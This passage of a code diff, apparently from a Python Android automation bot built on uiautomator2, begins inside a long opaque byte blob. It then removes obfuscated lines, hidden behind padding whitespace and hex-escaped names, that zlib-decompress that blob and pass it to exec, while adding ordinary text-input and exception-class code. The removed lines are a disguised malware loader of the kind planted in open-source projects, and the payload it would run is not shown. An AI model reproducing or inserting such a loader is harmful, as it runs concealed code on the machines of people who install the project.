\xcaQ\x8f\xaa\xab\xa3[\x16^\x0b]\xbc\x82\xa6\x8d\xd7\xc4/\xa5`?\'\xe4Y\x86!\x1c\xc3\xe2\xb7yp\xb3\xf6\xd3%x\x16\xb8zS\x97\x0e\x91A\xf4V\xe0C8\x81q\x00\xde\xac^\xef\x1a%\xf1\xd2\x0f\xd8\x8a|<8.\xb5\x10\x89\x1e#I]*n\xfa\xf5P\x97\xdd>\xed)h\x8ao\xaf\xf8y\x9f\x8d\xc0\x07\xeah\xabU\xf9V\xc4\xff\xd6@N\x88\xd3x\x04)\x1d\xa3\\\xea\xa55\xcb\xe3\xd5\xc6E\x02\x1c\x0c\x00\xf4mx\x89\xd7W\xe6\xe7J\xe4o\x89\xfa\x06\xfc_\x89B0\xb8\x15\n_\x99s\xe3\x84\xbb\x1fWh\x8b\t\x8b\xa8g\x92\xc6Z\x83\x1dml\xe8\xb0\xce\xa6\x1c\xf8\n\xd4\x039\x1f\x80\x1cT\xbb\xa5\xa2_\xa50[)\xfa;j\x86\xd3\x17W6\x8f\xb9\xef(\x07\xaa:p\x97\xeeY\xfb\x12I\xa5\xec\x039\xa8\xad\xde\x06PD\x18.\'\xa5\x12\x7f(\xcf\xdc\x0e\xa4\xe3\xc3&\x01\x0f\xf1\xd7\xd9x\xb6\x9dRP\xa7\x8a\x05\x14\xa1\xcf.\xdd\xb9m\x8a\x81)\xae%\xec\xde\xc4b\xc1k\x93-\x0f+\x06\xa1\xce)\xd2E\xac\x04b\x06\xec\xda\xaa[\x13;4\\v\xedL`\xbcX\xca\xc1\x11\xc29\xaf\x81\xbd7\xb9I7\xa3vu\xcc\x8d\xc9\xae\xfa\xfa\xe6\xae<\x13\xa5\xf6\xf2\x90*\xd5\xe2\r\x9a\xe7\xa8\xd4\x7f\x9cc\xcdB\xef8\xb4\xcf\x8b\t\x0c\xdc?\xd3I\x8d\xad\xc5\xfe\x17\xd4\xa8\xa4\xe5')
+                    typed_text = self.viewV2.get_text()
+                    if typed_text != text:
+                        logger.warning(
+                            "Failed to write in text field, let's try in the old way.."
+                        )
+                        self.viewV2.set_text(text)
+                    else:
+                        logger.debug(
+                            f"Text typed in: {(datetime.now()-start).total_seconds():.2f}s"
+                        )
+                notify_ui_changed()
+                DeviceFacade.sleep_mode(SleepTime.SHORT)
+            except uiautomator2.JSONRPCError as e:
+                raise DeviceFacade.JsonRpcError(e)
 
-        _negative._calculate(Algorithm = -48282 - _negative._callfunction)                                                                                                                                                                                                                                                          ;jliiiiiljjilliijjllj,wwwxwwwxwwwwxwxwxxwwxwx,XWWWXWWXXXXWWWWWWWXWWXWX,jjljlilliiljilllilli,jiijjjjjiljiiiill=(lambda xwwwxwxwxxwwwwxwxxx:xwwwxwxwxxwwwwxwxxx['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']),(lambda xwwwxwxwxxwwwwxwxxx:xwwwxwxwxxwwwwxwxxx(__import__('\x7a\x6c\x69\x62'))),(lambda xwwwxwxwxxwwwwxwxxx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(xwwwxwxwxxwwwwxwxxx)"),filename='\x4f\x6f\x6f\x6f\x4f\x6f\x6f\x4f\x30\x4f\x30\x4f\x6f\x4f\x4f\x30\x6f\x6f',mode='\x65\x76\x61\x6c'))),(lambda:(lambda xwwwxwxwxxwwwwxwxxx:globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(xwwwxwxwxxwwwwxwxxx)"),filename='\x4f\x6f\x6f\x6f\x4f\x6f\x6f\x4f\x30\x4f\x30\x4f\x6f\x4f\x4f\x30\x6f\x6f',mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63')),(lambda OoOOO0OO00OOoO00oo0oO0oOO,xwwwxwxwxxwwwwxwxxx:OoOOO0OO00OOoO00oo0oO0oOO(xwwwxwxwxxwwwwxwxxx))
-        _absolute(Round = -58906 + -88690)._calculate(Algorithm = -24963 * _negative._callfunction)                                                                                                                                                                                                                                                          ;jjljlilliiljilllilli()(jiijjjjjiljiiiill(jliiiiiljjilliijjllj(wwwxwwwxwwwwxwxwxxwwxwx(XWWWXWWXXXXWWWWWWWXWWXWX('\x76\x61\x72\x73'))),_absolute.Multiply(_hypothesis='S222SS2SS22SSSS22SSSSS2S')+_absolute.Multiply(_hypothesis='WWXWWXXXXWWXXXXXXWWXXXWX')+_absolute.Multiply(_hypothesis='OOO000OOo0OOO0OooO0O000oO')))
+    class JsonRpcError(Exception):
+        pass
 
-    except Exception as StackOverflow:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {StackOverflow}')
-        print(traceback.format_exc())
-        if 159993 > 6459414:
-            _absolute.execute(code = While(StackOverflow))
+    class AppHasCrashed(Exception):
+        pass
 
-        elif 287461 > 4416635:
-            _absolute(Round = -67793 * -98977).Run(CallFunction = _negative._callfunction - -73924)
\ No newline at end of file
+    class RelogAfterBlock(Exception):
+        pass